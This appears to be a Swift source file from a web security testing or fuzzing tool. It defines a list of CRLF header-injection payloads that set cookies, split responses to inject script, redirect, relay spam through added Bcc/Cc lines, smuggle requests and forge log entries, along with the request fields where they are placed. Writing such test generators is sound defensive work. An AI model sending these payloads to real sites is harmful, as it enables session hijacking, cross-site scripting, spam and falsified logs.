/// Line ends inside values, to add headers, split responses or forge mail and log lines.
enum HeaderInjection {
    static let payloads = Template.list(
        "{language}\r\nSet-Cookie: session={hash}", "{slug}\r\n\r\n<script>{function}</script>",
        "/account\r\nLocation: http://{host}/", "x\r\nX-Forwarded-For: 127.0.0.1",
        "{email}\r\nBcc: {email}", "{email}\nCc: {email}\nSubject: win",
        "{number}\r\nContent-Length: 0\r\n",
        "x\nHTTP/1.1 200 OK\r\nContent-Type: text/html", "{language}\r\n X-Injected: {marker}",
        "a\r\nTransfer-Encoding: chunked\r\n\r\n0", "ok\n127.0.0.1 - admin [login] success")

    static let shapes = [
        RequestShape("GET", "/", query: "lang={payload}", weight: 3),
        RequestShape("GET", "/go", query: "url={payload}&ref={hash}", weight: 3),
        RequestShape("GET", "/login", query: "next={payload}", weight: 3),
        RequestShape("GET", "/{language}/{payload}", weight: 1),
        RequestShape(
            "POST", "/contact", form: "name={person}&email={payload}&message={review}", weight: 3),
        RequestShape("POST", "/password/forgot", form: "email={payload}", weight: 2),
    ]
}
